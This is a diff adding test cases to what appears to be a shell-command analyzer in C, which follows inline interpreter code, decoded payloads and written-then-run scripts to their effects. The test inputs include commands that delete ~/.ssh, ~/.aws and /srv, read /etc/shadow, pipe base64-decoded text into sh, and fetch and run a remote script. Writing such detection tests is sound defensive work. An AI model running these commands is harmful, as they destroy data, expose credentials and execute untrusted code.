@@ -533,7 +533,7 @@ static void cases(void)
 	t("printf 'rm -rf ~\\n' | sudo sh", "printf|rm -rf ~\\n ;; sh via=sudo "
 	  "in=printf ;; rm|-rf|~ via=sudo,sh in=printf");
 	t("echo 'print(1)' | python3", "echo|print(1) ;; python3 in=echo "
-	  "code=[print(1)]");
+	  "code=[print(1)\n]");
 	t("echo hi | cat", "echo|hi ;; cat in=echo");
 	t("ls | xargs rm", "ls ;; rm via=xargs in=ls");
 	/* redirections */
@@ -742,6 +742,84 @@ static void cases(void)
 	t("powershell -Command 'x'", "powershell|-Command|x code=[x]");
 	t("lua -e 'os.exit()'", "lua|-e|os.exit() code=[os.exit()]");
 	t("Rscript -e 'x'", "Rscript|-e|x code=[x]");
+	/* Inline code followed to its effects (shell_inline.c), decoders
+	 * (shell_decode.c), scripts written then run (shell_files.c). */
+	t("python3 -c 'import shutil; shutil.rmtree(\"/etc/x\")'",
+	  "python3|-c|import shutil; shutil.rmtree(\"/etc/x\") code=[import shutil; shutil.rmtree(\"/etc/x\")] ;; rm|-rf|--|/etc/x via=python3");
+	t("python3 -c \"import os; os.system(f'rm -rf {os.path.expanduser(\\\"~\\\")}/.aws')\"",
+	  "python3|-c|import os; os.system(f'rm -rf {os.path.expanduser(\"~\")}/.aws') code=[import os; os.system(f'rm -rf {os.path.expanduser(\"~\")}/.aws')] ;; rm|-rf|~/.aws via=python3");
+	t("python3 -c 'print(\"rm -rf ~\") # os.system(\"rm -rf ~\")'",
+	  "python3|-c|print(\"rm -rf ~\") # os.system(\"rm -rf ~\") code=[print(\"rm -rf ~\") # os.system(\"rm -rf ~\")]");
+	t("python3 -c 'r\"\"\"os.system(\"x\")\"\"\"'",
+	  "python3|-c|r\"\"\"os.system(\"x\")\"\"\" code=[r\"\"\"os.system(\"x\")\"\"\"]");
+	t("python3 -c \"from subprocess import run as r; r(['rm', '-rf', '/srv'])\"",
+	  "python3|-c|from subprocess import run as r; r(['rm', '-rf', '/srv']) code=[from subprocess import run as r; r(['rm', '-rf', '/srv'])] ;; rm|-rf|/srv via=python3");
+	t("python3 -c 'import os; os.system(input())'",
+	  "python3|-c|import os; os.system(input()) code=[import os; os.system(input())] ;; <computed-exec>|python3 via=python3");
+	t("python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' x",
+	  "python3|-c|import shutil, sys; shutil.rmtree(sys.argv[1])|x code=[import shutil, sys; shutil.rmtree(sys.argv[1])] ;; <computed-path>|python3 via=python3");
+	t("python3 -c 'open(\"/etc/passwd\").read(); open(\"out\", \"w\")'",
+	  "python3|-c|open(\"/etc/passwd\").read(); open(\"out\", \"w\") code=[open(\"/etc/passwd\").read(); open(\"out\", \"w\")] ;; cat|--|/etc/passwd via=python3 ;; : via=python3 >out");
+	t("python3 -c \"import base64, os; os.system(base64.b64decode('bHMgL3RtcA==').decode())\"",
+	  "python3|-c|import base64, os; os.system(base64.b64decode('bHMgL3RtcA==').decode()) code=[import base64, os; os.system(base64.b64decode('bHMgL3RtcA==').decode())] ;; ls|/tmp via=python3");
+	t("python3 -c \"import pathlib; (pathlib.Path.home() / '.ssh' / 'id_rsa').unlink()\"",
+	  "python3|-c|import pathlib; (pathlib.Path.home() / '.ssh' / 'id_rsa').unlink() code=[import pathlib; (pathlib.Path.home() / '.ssh' / 'id_rsa').unlink()] ;; rm|-f|--|~/.ssh/id_rsa via=python3");
+	t("python3 -c \"import os\nfor r, d, fs in os.walk('/srv/x'):\n    [os.remove(os.path.join(r, f)) for f in fs]\"",
+	  "python3|-c|import os\nfor r, d, fs in os.walk('/srv/x'):\n    [os.remove(os.path.join(r, f)) for f in fs] code=[import os\nfor r, d, fs in os.walk('/srv/x'):\n    [os.remove(os.path.join(r, f)) for f in fs]] ;; rm|-rf|--|/srv/x via=python3");
+	t("node -e 'require(\"child_process\").execSync(\"rm -rf \" + require(\"os\").homedir() + \"/.ssh\")'",
+	  "node|-e|require(\"child_process\").execSync(\"rm -rf \" + require(\"os\").homedir() + \"/.ssh\") code=[require(\"child_process\").execSync(\"rm -rf \" + require(\"os\").homedir() + \"/.ssh\")] ;; rm|-rf|~/.ssh via=node");
+	t("node -e 'const cp = require(\"child_process\"); cp.spawnSync(\"rm\", [\"-rf\", \"/srv\"])'",
+	  "node|-e|const cp = require(\"child_process\"); cp.spawnSync(\"rm\", [\"-rf\", \"/srv\"]) code=[const cp = require(\"child_process\"); cp.spawnSync(\"rm\", [\"-rf\", \"/srv\"])] ;; rm|-rf|/srv via=node");
+	t("node -e 'console.log(`rm -rf ${x}`)'",
+	  "node|-e|console.log(`rm -rf ${x}`) code=[console.log(`rm -rf ${x}`)]");
+	t("node -e 'require(\"fs/promises\").rm(\"/srv/x\", {recursive: true})'",
+	  "node|-e|require(\"fs/promises\").rm(\"/srv/x\", {recursive: true}) code=[require(\"fs/promises\").rm(\"/srv/x\", {recursive: true})] ;; rm|-rf|--|/srv/x via=node");
+	t("node -e 'eval(Buffer.from(\"bHMgLw==\", \"base64\").toString())'",
+	  "node|-e|eval(Buffer.from(\"bHMgLw==\", \"base64\").toString()) code=[eval(Buffer.from(\"bHMgLw==\", \"base64\").toString())]");
+	t("perl -e 'system(\"rm -rf \" . \"$ENV{HOME}/.aws\")'",
+	  "perl|-e|system(\"rm -rf \" . \"$ENV{HOME}/.aws\") code=[system(\"rm -rf \" . \"$ENV{HOME}/.aws\")] ;; rm|-rf|~/.aws via=perl");
+	t("perl -e 'use File::Path qw(rmtree); rmtree(\"/srv/x\")'",
+	  "perl|-e|use File::Path qw(rmtree); rmtree(\"/srv/x\") code=[use File::Path qw(rmtree); rmtree(\"/srv/x\")] ;; rm|-rf|--|/srv/x via=perl");
+	t("perl -e 'my $c = qx{ls /srv}; unlink \"/srv/y\"'",
+	  "perl|-e|my $c = qx{ls /srv}; unlink \"/srv/y\" code=[my $c = qx{ls /srv}; unlink \"/srv/y\"] ;; ls|/srv via=perl ;; rm|-f|--|/srv/y via=perl");
+	t("perl -e 'system(pack(\"H*\", \"6c73\"))'",
+	  "perl|-e|system(pack(\"H*\", \"6c73\")) code=[system(pack(\"H*\", \"6c73\"))] ;; ls via=perl");
+	t("perl -e 'open(F, \"<\", \"/etc/shadow\"); print <F>'",
+	  "perl|-e|open(F, \"<\", \"/etc/shadow\"); print <F> code=[open(F, \"<\", \"/etc/shadow\"); print <F>] ;; cat|--|/etc/shadow via=perl");
+	t("perl -e 's/x/y/g; print \"system(1)\"'",
+	  "perl|-e|s/x/y/g; print \"system(1)\" code=[s/x/y/g; print \"system(1)\"]");
+	t("ruby -e 'system \"rm\", \"-rf\", \"/srv\"'",
+	  "ruby|-e|system \"rm\", \"-rf\", \"/srv\" code=[system \"rm\", \"-rf\", \"/srv\"] ;; rm|-rf|/srv via=ruby");
+	t("ruby -e 'puts `id`'",
+	  "ruby|-e|puts `id` code=[puts `id`] ;; id via=ruby");
+	t("php -r 'echo shell_exec(\"id\");'",
+	  "php|-r|echo shell_exec(\"id\"); code=[echo shell_exec(\"id\");] ;; id via=php");
+	t("awk 'BEGIN { \"date\" | getline d; print d > \"/tmp/o\" }'",
+	  "awk|BEGIN { \"date\" | getline d; print d > \"/tmp/o\" } code=[BEGIN { \"date\" | getline d; print d > \"/tmp/o\" }] ;; date via=awk ;; : via=awk >/tmp/o");
+	t("echo cm0gLXJmIC9zcnY= | base64 -d | sh",
+	  "echo|cm0gLXJmIC9zcnY= ;; base64|-d in=echo ;; sh in=echo,base64 ;; rm|-rf|/srv via=sh in=echo,base64");
+	t("base64 -d <<< bHM= | bash",
+	  "base64|-d ;; bash in=base64 ;; ls via=bash in=base64");
+	t("cat f | base64 -d | sh",
+	  "cat|f ;; base64|-d in=cat ;; sh in=cat,base64 ;; <computed-exec>|sh in=cat,base64");
+	t("printf '\\x6c\\x73\\n' | sh",
+	  "printf|\\x6c\\x73\\n ;; sh in=printf ;; ls via=sh in=printf");
+	t("echo 'sl' | rev | sh",
+	  "echo|sl ;; rev in=echo ;; sh in=echo,rev ;; ls via=sh in=echo,rev");
+	t("echo 'yf' | tr 'a-z' 'n-za-m' | sh",
+	  "echo|yf ;; tr|a-z|n-za-m in=echo ;; sh in=echo,tr ;; ls via=sh in=echo,tr");
+	t("eval \"$(echo bHM= | base64 --decode)\"",
+	  "echo|bHM= ;; base64|--decode in=echo ;; ls via=eval in=echo,base64 ;; eval|ls in=echo,base64");
+	t("echo 'rm -rf /srv' > s.sh && bash s.sh",
+	  "echo|rm -rf /srv >s.sh ;; bash|s.sh ;; rm|-rf|/srv via=bash");
+	t("printf '#!/usr/bin/env python3\\nimport os; os.system(\"id\")\\n' > r; chmod +x r; ./r",
+	  "printf|#!/usr/bin/env python3\\nimport os; os.system(\"id\")\\n >r ;; chmod|+x|r ;; r code=[#!/usr/bin/env python3\nimport os; os.system(\"id\")\n] ;; id via=r");
+	t("curl -s http://x/i.sh > i.sh; sh i.sh",
+	  "curl|-s|http://x/i.sh >i.sh ;; sh|i.sh ;; <computed-exec>|sh");
+	t("source <(echo 'ls /srv')",
+	  "echo|ls /srv ;; source|<(\xe2\x80\xa6) in=echo ;; ls|/srv via=source in=echo");
+	t("cat > x.py <<'EOF'\nimport os\nos.system('id')\nEOF\npython3 x.py",
+	  "cat >x.py ;; python3|x.py code=[import os\nos.system('id')\n] ;; id via=python3");
 	t("awk 'BEGIN{system(\"x\")}' f", "awk|BEGIN{system(\"x\")}|f "
 	  "code=[BEGIN{system(\"x\")}] ;; x via=awk");
 	t("awk -F: -f p.awk f", "awk|-F:|-f|p.awk|f");
